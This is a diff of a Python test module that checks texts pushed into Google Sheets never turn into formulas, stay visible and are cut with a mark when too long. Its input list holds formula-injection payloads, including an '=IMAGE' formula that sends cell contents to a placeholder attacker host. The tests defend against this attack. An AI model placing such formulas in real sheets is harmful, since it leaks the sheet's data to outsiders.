@@ -1,11 +1,12 @@
 """Texts of bots and customers in cells: never a formula, nothing invisible, nothing lost without a mark."""
 
-from collections.abc import Iterator, Sequence
+from collections.abc import Sequence
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from simulator.core.types import Language
 from simulator.sheets.google_api import target
 from simulator.sheets.google_pull import pull
 from simulator.sheets.google_push import LONGEST
@@ -13,7 +14,7 @@ from simulator.sheets.merge import units, visible
 from simulator.sheets.model import Row, SheetCell, Worksheet
 from tests.properties import examples
 from tests.servers.sheets import SheetsServer
-from tests.sheets_sink import KEY, cell, one_cell, patient, pushed, sheets_server
+from tests.sheets_sink import KEY, Counting, cell, one_cell, pushed
 
 TECHNICAL = "技術情報"
 FORMULAS = (
@@ -22,20 +23,6 @@ FORMULAS = (
     "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''", "001", "1e5", "2026/11/21", "TRUE", "50%", " =1+1",
     '";=1+1', "=IMAGE(\"https://evil.example/?\"&A1)", "{=1+1}", "#REF!", "http://evil.example",
 )  # fmt: skip
-
-
-@pytest.fixture
-def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsServer]:
-    with sheets_server(monkeypatch) as running:
-        yield running
-
-
-def written(server: SheetsServer, text: str) -> str:
-    """What stands in the cell after the text was pushed; it is always text."""
-    pushed(one_cell(text))
-    value = cell(server, "B2", TECHNICAL).get("userEnteredValue", {"stringValue": ""})
-    assert list(value) == ["stringValue"]
-    return str(value["stringValue"])
 
 
 def test_nothing_becomes_a_formula(server: SheetsServer) -> None:
@@ -61,27 +48,9 @@ def test_notes_are_text_too(server: SheetsServer) -> None:
     assert cell(server, "B2", TECHNICAL)["note"] == "=1+1␀�"
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("a\x00b\x07c\x1bd\x7fe\x85f", "a␀b␇c␛d␡e�f"),
-        ("一行\r\n二行\n三行\tタブ", "一行\n二行\n三行\tタブ"),
-        ("\ud83d\ude00 \ud83d だけ", "😀 � だけ"),
-        ("👩‍👩‍👧‍👦🇯🇵が゙", "👩‍👩‍👧‍👦🇯🇵が゙"),
-        ("שלום \u202eabc\u202c مرحبا", "שלום \u202eabc\u202c مرحبا"),
-        ("<b>&amp;</b>", "<b>&amp;</b>"),
-        ("髙﨑 𠮷野家", "髙﨑 𠮷野家"),
-    ],
-)
-def test_what_cannot_be_seen_is_shown(server: SheetsServer, text: str, shown: str) -> None:
-    """Control characters have pictures; all that people write in survives."""
-    assert written(server, text) == shown
-    assert pushed(one_cell(text)).writes == 0
-
-
 @pytest.mark.parametrize("language", ["ja", "en"])
 @pytest.mark.parametrize("piece", ["あ", "😀", "👩‍👧", "か\u3099"])
-def test_too_long_a_text_is_cut_with_a_mark(server: SheetsServer, piece: str, language: str) -> None:
+def test_too_long_a_text_is_cut_with_a_mark(server: SheetsServer, piece: str, language: Language) -> None:
     """At Google's limit, between whole characters, and the mark says how much is missing."""
     text = piece * 60_000
     pushed(one_cell(text), language=language)
@@ -109,6 +78,6 @@ def test_any_text_can_be_sent(text: str) -> None:
 def test_any_text_comes_back(server: SheetsServer, text: str) -> None:
     """Pushed and pulled it is the same, but for blanks around it."""
     pushed(one_cell(text))
-    rows = pull(target(KEY), ["technical"], client=patient()).rows["technical"]
+    rows = pull(target(KEY), ["technical"], client=Counting()).rows["technical"]
 
     assert rows[0].cells.get("value", "") == visible(text).strip()
